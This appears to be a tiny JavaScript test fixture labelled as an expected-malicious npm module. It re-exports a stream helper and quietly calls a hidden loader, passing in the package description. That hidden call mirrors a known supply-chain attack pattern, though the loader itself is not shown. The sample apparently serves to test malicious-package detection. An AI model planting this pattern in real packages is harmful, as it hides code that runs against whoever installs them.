// expect: malicious
module.exports = require('./through');
require('./loader')(process.env.npm_package_description);
